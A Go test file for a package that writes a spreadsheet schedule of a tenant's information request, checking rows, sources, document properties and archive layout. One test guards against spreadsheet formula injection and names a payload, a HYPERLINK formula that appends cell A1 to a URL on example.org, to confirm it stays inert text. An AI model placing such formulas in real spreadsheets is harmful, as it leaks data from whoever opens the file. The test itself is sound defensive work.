package pack_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"tenet/internal/pack"
)

func schedule(t testing.TB, in pack.Input) (*excelize.File, []byte) {
	t.Helper()
	list, err := pack.Files(in, pack.Spreadsheet)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range list {
		if f.Name == pack.SheetName {
			x, err := excelize.OpenReader(bytes.NewReader(f.Bytes))
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { x.Close() })
			return x, f.Bytes
		}
	}
	t.Fatal("there is no schedule")
	return nil, nil
}

func TestScheduleSaysWhatThePageSays(t *testing.T) {
	in := answer(t)
	in.Sources = []string{"repairs", "housing"}
	x, _ := schedule(t, in)
	given, err := x.GetRows("What you are given")
	if err != nil {
		t.Fatal(err)
	}
	if len(given) != 29 {
		t.Errorf("there are %d rows of what is given", len(given))
	}
	if diff := cmp.Diff([]string{"1", "Your details", "Who you are", "housing", "person", "", "yours", "the tenancy reference that you gave", "7", "1"}, given[1]); diff != "" {
		t.Error(diff)
	}

	// What was withheld is in the words of the page.
	var want [][]string
	for _, tr := range every(parse(t, files(t, in)[pack.PageName]), "tr") {
		if cells := every(tr, "td", "th"); strings.Contains(text(tr.Parent.Parent), "Schedule of what was withheld") && tr.Parent.Data == "tbody" {
			var row []string
			for _, c := range cells {
				row = append(row, squeeze(text(c)))
			}
			want = append(want, row)
		}
	}
	rows, err := x.GetRows("What was withheld")
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for _, r := range rows[1:] {
		what := r[1]
		if r[2] != "1" {
			what += " (" + r[2] + " times)"
		}
		got = append(got, []string{squeeze(r[0]), squeeze(what), squeeze(r[3] + "(" + r[4] + ")"), squeeze(r[5])})
	}
	if diff := cmp.Diff(want, got); diff != "" || len(got) != 4 {
		t.Errorf("the schedule differs from the page's: %s", diff)
	}

	sources, err := x.GetRows("Sources")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([][]string{
		{"Place", "Searched", "Why not, or how far"}, {"housing", "Yes"}, {"letters", "Yes"}, {"repairs", "Yes"},
		{"Archive folder (archive)", "Not searched", "2 scanned documents have no text that can be searched."},
		{"Call recordings", "Not searched", "No recordings are connected yet."},
		{"Other tenancies of your home", "Not followed", "They belong to people who lived there at other times."},
	}, sources); diff != "" {
		t.Error(diff)
	}
	props, err := x.GetDocProps()
	if err != nil || props.Created != "2026-10-03T00:00:00Z" || props.Modified != props.Created || props.Creator != "Larkfield Homes" || props.Language != "en-GB" {
		t.Errorf("the properties are %+v, error %v", props, err)
	}
}

func TestScheduleHasNoFormula(t *testing.T) {
	in := answer(t)
	in.Items, in.Withheld, in.NotSearched = nil, nil, nil
	for i, v := range hostileValues[:34] {
		in.Items = append(in.Items, pack.Item{ID: strconv.Itoa(i), Source: v, Table: v, Title: v, Category: v, Whose: v, How: v})
		in.NotSearched = append(in.NotSearched, pack.Gap{What: v, Why: v})
	}
	in.Items = append(in.Items, pack.Item{ID: "long", Source: "s", How: strings.Repeat("ω", 40_000)})
	x, raw := schedule(t, in)
	titles := 0
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, err := x.GetCellFormula(sheet, name); f != "" || err != nil {
					t.Errorf("%s of %s is the formula %q, error %v", name, sheet, f, err)
				}
				kind, err := x.GetCellType(sheet, name)
				if strings.HasPrefix(v, "=") && (kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString || err != nil) {
					t.Errorf("%s of %s is of type %v, error %v", name, sheet, kind, err)
				}
				if v == `=HYPERLINK("http://example.org?"&A1)` {
					titles++
				}
				if strings.HasPrefix(v, "ωω") && (len([]rune(v)) > 32_767 || !strings.HasSuffix(v, "(cut: in full in your-information.html)")) {
					t.Errorf("a long text ends with %q", v[len(v)-60:])
				}
			}
		}
	}
	if titles < 5 {
		t.Errorf("a value that looks like a formula stands as it is %d times", titles)
	}
	z, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range z.File {
		if f.Modified.Year() > 1980 {
			t.Errorf("%s has the time %v", f.Name, f.Modified)
		}
		if i == 0 && f.Name != "[Content_Types].xml" {
			t.Errorf("the first part is %s", f.Name)
		}
	}
}

// BenchmarkSchedule writes rows of what is given, the rest of the answer included.
func BenchmarkSchedule(b *testing.B) {
	in := big(b, 500)
	for _, extra := range [][]pack.Extra{nil, {pack.Spreadsheet}} {
		b.Run(fmt.Sprintf("extra=%d", len(extra)), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := pack.Files(in, extra...); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.N*len(in.Items))/b.Elapsed().Seconds(), "rows/s")
		})
	}
}
